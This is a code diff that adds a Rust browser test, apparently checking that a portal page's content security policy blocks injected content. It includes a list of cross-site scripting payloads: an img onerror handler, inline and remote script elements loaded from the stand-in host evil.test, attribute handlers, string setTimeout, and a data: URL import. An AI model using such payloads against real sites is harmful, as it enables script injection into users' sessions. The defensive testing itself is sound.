@@ -311,3 +311,27 @@ async fn choose_files(tab: &Tab, payloads: &[String]) {
         tab.0.until(&format!("{failed} === 0")).await;
     }
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_would_be_markup_all_the_same_the_policy_stops() {
+    let demo = Demo::start().await;
+    let portal = Tab(guarded(&demo.browser, &demo.customer("ana").page).await);
+    portal.live().await;
+    for attempt in [
+        r#"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned=1">')"#,
+        r#"document.body.append(Object.assign(document.createElement('script'), {text: 'window.pwned=1'}))"#,
+        r#"document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.test/x.js'}))"#,
+        r#"document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.test/x.png'}))"#,
+        r#"(document.body.setAttribute('onclick', 'window.pwned=1'), document.body.click())"#,
+        r#"setTimeout('window.pwned=1')"#,
+        r#"import('data:text/javascript,window.pwned=1').catch(() => 0)"#,
+    ] {
+        let before = portal.0.eval("violations.length").await.as_u64().unwrap();
+        portal
+            .0
+            .eval(&format!("(async () => {attempt})().catch(() => 'refused')"))
+            .await;
+        portal.0.until(&format!("violations.length > {before}")).await;
+    }
+    assert_eq!(portal.0.eval("window.pwned ?? null").await, Value::Null);
+}
